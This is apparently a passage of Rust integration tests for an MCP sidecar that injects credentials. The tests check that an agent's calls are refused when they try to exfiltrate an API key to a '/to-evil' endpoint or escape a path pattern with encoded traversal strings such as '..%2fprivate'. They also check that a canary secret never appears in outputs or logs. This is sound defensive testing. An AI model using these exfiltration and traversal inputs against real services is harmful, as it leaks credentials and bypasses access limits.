                {"op": "call", "name": "svc__api_call", "args": {"target": env.up.url(API, "/to-evil?k={{api_key}}")}},
            ]),
        );
        assert!(out.get("fatal").is_none(), "{out}");
        assert_eq!(out["results"][0]["isError"], json!(false), "{out}");
        assert_eq!(
            out["results"][6]["isError"],
            json!(false),
            "run_history: {}",
            out["results"][6]
        );
        assert_eq!(
            out["results"][7]["isError"],
            json!(false),
            "recall_memory: {}",
            out["results"][7]
        );
        let codes: Vec<Option<String>> = [8, 9, 11, 12]
            .iter()
            .map(|i| error_code(&out["results"][*i]))
            .collect();
        assert_eq!(
            codes,
            [
                Some("not_authorized".to_owned()),
                Some("not_authorized".to_owned()),
                Some("credential_exfiltration_refused".to_owned()),
                Some("redirect_blocked".to_owned())
            ],
            "{out}"
        );
        assert_eq!(out["results"][10]["_meta"]["status"], json!(404), "{out}");
        outputs.push_str(&out.to_string());
    }
    assert!(
        env.up
            .seen()
            .iter()
            .any(|s| s.header("authorization") == Some(&format!("Bearer {CANARY}")))
    );
    env.sc.stop();
    let log = env.sc.stderr();
    assert!(
        log.len() > 1000,
        "expected a trace log, got {} bytes",
        log.len()
    );
    assert!(
        !outputs.contains(CANARY),
        "the credential reached the agent"
    );
    assert!(
        !log.contains(CANARY),
        "the credential is in the sidecar log:\n{}",
        log.lines()
            .filter(|l| l.contains(CANARY))
            .collect::<Vec<_>>()
            .join("\n")
    );
    // Not even as a host name, where it is lowercased.
    assert!(
        !log.to_ascii_lowercase()
            .contains(&CANARY.to_ascii_lowercase()),
        "the credential is in the sidecar log, lowercased"
    );
    // The refusals were logged, redacted.
    assert!(log.contains("Target refused"), "{log}");
    assert!(log.contains("[REDACTED]"), "{log}");
    // Nor is it in the egress log.
    let egress = format!("{:?}", env.p.egress_log().await);
    assert!(!egress.contains(CANARY), "{egress}");
    assert!(
        !log.contains(&env.token),
        "the sidecar token is in the sidecar log"
    );
}

/// An agent that opens 2025-11-25 sessions without end cannot grow the
/// sidecar without bound: past `limits.max_mcp_sessions` the oldest session
/// is closed (its id then gets rmcp's 404) and the newer ones keep working.
#[tokio::test(flavor = "multi_thread")]
async fn sessions_past_the_cap_close_the_oldest() {
    let p = TestPlatform::start("mcp-sessions").await;
    let cfg = p
        .sidecar_config()
        .tcp()
        .limits(|l| l.max_mcp_sessions = 2)
        .build();
    let sc = spawn_sidecar_with_log(&cfg, "info");
    let auth = format!("Bearer {}", p.sidecar_token.expose_secret());
    let base = [
        ("authorization", auth.as_str()),
        ("content-type", "application/json"),
        ("accept", "application/json, text/event-stream"),
    ];
    let open = |n: u64| -> String {
        let init = json!({"jsonrpc": "2.0", "id": n, "method": "initialize", "params": {
            "protocolVersion": "2025-11-25", "capabilities": {},
            "clientInfo": {"name": "cap-test", "version": "1"}}});
        let (status, headers, body) =
            http(sc.tcp(), "POST", "/mcp", &base, init.to_string().as_bytes());
        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
        let id = headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("mcp-session-id"))
            .map(|(_, v)| v.clone())
            .expect("a session id");
        let mut h = base.to_vec();
        h.push(("mcp-session-id", id.as_str()));
        h.push(("mcp-protocol-version", "2025-11-25"));
        let note = json!({"jsonrpc": "2.0", "method": "notifications/initialized"});
        let (status, _, _) = http(sc.tcp(), "POST", "/mcp", &h, note.to_string().as_bytes());
        assert_eq!(status, 202);
        id
    };
    let list = |id: &str| -> u16 {
        let mut h = base.to_vec();
        h.push(("mcp-session-id", id));
        h.push(("mcp-protocol-version", "2025-11-25"));
        let req = json!({"jsonrpc": "2.0", "id": 50, "method": "tools/list"});
        http(sc.tcp(), "POST", "/mcp", &h, req.to_string().as_bytes()).0
    };
    let a = open(1);
    let b = open(2);
    assert_eq!((list(&a), list(&b)), (200, 200));
    let c = open(3);
    assert_eq!(list(&a), 404, "the oldest session was closed to make room");
    assert_eq!((list(&b), list(&c)), (200, 200));
    // Many more: never more than two live, the newest always usable.
    let mut last = c;
    for n in 4..40 {
        last = open(n);
    }
    assert_eq!(list(&last), 200);
    assert_eq!(list(&b), 404);
    let (status, _, _) = http(sc.tcp(), "GET", "/health", &[], b"");
    assert_eq!(status, 200);
}

/// Issue 44.3: a path that escapes its pattern once a server decodes it.
/// `/api/**` matches `/api/..%2fprivate` as written, but a server that
/// decodes `%2f` and then normalises serves `/private`: the credential must
/// not go with it, whichever spelling (either case, `%5c`, `%2e`, encoded
/// twice). The legitimate call under `/api/` still carries it, and so does
/// an encoded `/` that stays under `/api/`.
#[tokio::test(flavor = "multi_thread")]
async fn an_encoded_separator_cannot_take_the_credential_outside_its_pattern() {
    // The MCP Python SDK is needed: a failure under CI, a counted skip elsewhere.
    if !python_has(&["mcp", "httpx2"]) {
        return;
    }
    let p = TestPlatform::start("mcp-agent").await;
    p.add_connection("narrow", AuthType::Bearer, &[("api_key", CANARY)])
        .await;
    let up = Upstream::start().await;
    let port = up.addr.port();
    let cfg = p
        .sidecar_config()
        .tcp()
        .integration(
            integration("narrow")
                .authorized([format!("http://{API}:{port}/api/**")])
                .bearer("api_key"),
        )
        .loopback_host(API)
        .build();
    let sc = spawn_sidecar_with_log(&cfg, "info");
    let token = p.sidecar_token.expose_secret().to_owned();
    let url = format!("http://{}/mcp", sc.tcp());
    let escapes = [
        "/api/..%2fprivate/echo",
        "/api/..%2Fprivate/echo",
        "/api/%2e%2e%2fprivate/echo",
        "/api/..%5cprivate/echo",
        "/api/%252e%252e%252fprivate/echo",
        "/api/x/..%2f..%2fprivate/echo",
    ];
    let legit = ["/api/x", "/api/group%2Fproject"];
    let ops: Vec<Value> = escapes
        .iter()
        .chain(&legit)
        .map(|path| json!({"op": "call", "name": "narrow__api_call", "args": {"target": up.url(API, path)}}))
        .collect();
    let out = py(&url, Some(&token), "legacy", None, json!(ops));
    assert!(out.get("fatal").is_none(), "{out}");
    let r = out["results"].as_array().unwrap();
    for (i, path) in escapes.iter().enumerate() {
        assert_eq!(
            error_code(&r[i]).as_deref(),
            Some("invalid_url"),
            "{path}: {}",
            r[i]
        );
    }
    for (i, path) in legit.iter().enumerate() {
        let res = &r[escapes.len() + i];
        assert_eq!(res.get("isError"), Some(&json!(false)), "{path}: {res}");
    }
    // The upstream never saw an escaping path; the legitimate ones came with
    // the credential.
    let seen = up.seen();
    assert_eq!(seen.len(), legit.len(), "{seen:?}");
    for (s, path) in seen.iter().zip(legit) {
        assert_eq!(s.path, path);
        assert_eq!(
            s.header("authorization"),
            Some(format!("Bearer {CANARY}").as_str())
        );
    }
    assert!(!out.to_string().contains(CANARY));
}
